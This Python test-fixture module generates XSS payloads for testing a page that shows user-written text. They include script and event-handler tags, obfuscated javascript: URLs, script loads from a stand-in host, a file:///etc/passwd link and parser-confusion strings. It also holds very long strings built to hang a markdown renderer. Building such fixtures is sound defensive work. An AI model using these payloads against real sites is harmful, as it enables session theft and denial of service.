"""Texts that would like to be scripts, requests or a page that hangs: for every place where a
page shows what somebody else has written. `CANARY` is what runs if one of them gets its way."""

from itertools import product

CANARY = "window.__ran=1;alert(1)"
_ELSEWHERE = "http://elsewhere.invalid"

_TAGS = [
    "<script>{js}</script>",
    "<script src={url}/x.js></script>",
    "<img src=x onerror='{js}'>",
    "<img src={url}/pixel.png>",
    "<svg onload='{js}'>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin='{js}' attributeName=x dur=1s></svg>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='{url}/x'>",
    "<body onload='{js}'>",
    "<details open ontoggle='{js}'>",
    "<video><source onerror='{js}'></video>",
    "<input autofocus onfocus='{js}'>",
    "<marquee onstart='{js}'>",
    "<a href='javascript:{js}'>x</a>",
    "<form action='javascript:{js}'><button>x</button></form>",
    "<math><mtext><style><img src=x onerror='{js}'></style></mtext></math>",
    "<link rel=stylesheet href={url}/x.css>",
    "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<style>@import '{url}/x.css'; body {{ display: none }}</style>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
]
_WRAPPINGS = [
    "{tag}",
    "**{tag}**",
    "`{tag}",
    "> {tag}",
    "- [x] {tag}",
    "| a | {tag} |\n|---|---|\n| {tag} | b |",
]
_ADDRESSES = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java&#10;script:{js}",
    "&#106;avascript:{js}",
    "\x01javascript:{js}",
    "javascript://elsewhere.invalid/%0a{js}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{js}</script>",
    "data:image/svg+xml,<svg onload='{js}'>",
    "blob:{url}/x",
    "file:///etc/passwd",
    "view-source:{url}",
    "//elsewhere.invalid/x",
    "/api/v1/logout",
]
_LINKS = ["[x]({to})", "![x]({to})", "<{to}>", "[x](<{to}>)"]
_CODE = [
    "```<img src=x onerror={js}>\ncode\n```",
    '```js" onmouseover="{js}\ncode\n```',
    "```html\n{tag}\n```",
    "~~~\n</code></pre><script>{js}</script>\n~~~",
    "```python\n'''</span><script>{js}</script>\n",
    "$$\n<script>{js}</script>\n$$",
    "\\[<img src=x onerror={js}>\\]",
]
_ODD = [
    "\u202e<script>{js}</script>\u202c",
    "\x00<script>{js}</script>",
    "\ufeff<img src=x onerror={js}>",
    "<\u200bscript>{js}</script>",
    "＜script＞{js}＜/script＞",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "'\"><script>{js}</script>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "__proto__",
    "[constructor](__proto__)",
    "]]><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
]
LONG = [
    "*" * 5000,
    "**a " * 3000,
    "*a _b " * 2000 + "_* " * 2000,
    "[" * 5000,
    "![" * 4000 + "](" * 4000,
    "[a](" * 4000,
    "`" * 3000 + "a" + "`" * 2999,
    "".join("`" * (n % 60) + "a" for n in range(3000)),
    "> " * 3000,
    "- " * 3000,
    "\n".join("  " * n + "- a" for n in range(300)),
    "1. " * 2000,
    "|" * 5000 + "\n" + "|-" * 2500 + "|",
    "| a " * 120 + "|\n" + "|---" * 120 + "|",
    "#" * 5000,
    "~" * 5000,
    "<" * 5000,
    "&" * 5000,
    "\\" * 5001,
    "http://" * 3000,
    "https://elsewhere.invalid/" + "(" * 4000,
    "a\n" * 4000,
    "$" * 5000,
    "$$" + "a$" * 3000,
    " " * 20_000 + "x",
    "- a\n" + " " * 20_000 + "\n- b",
    "```\n" * 2001,
    "\u0301" * 3000,
    "😀" * 3000 + "**b**",
    "-" * 20_000 + "x",
]


def _filled(text: str, tag: str = "", to: str = "") -> str:
    return text.format(js=CANARY, url=_ELSEWHERE, tag=tag, to=to)


def short() -> list[str]:
    tags = [_filled(tag) for tag in _TAGS]
    addresses = [_filled(address) for address in _ADDRESSES]
    return [
        *(_filled(wrapping, tag=tag) for wrapping, tag in product(_WRAPPINGS, tags)),
        *(_filled(link, to=address) for link, address in product(_LINKS, addresses)),
        *(_filled(code, tag=tags[0]) for code in _CODE),
        *(_filled(odd) for odd in _ODD),
    ]
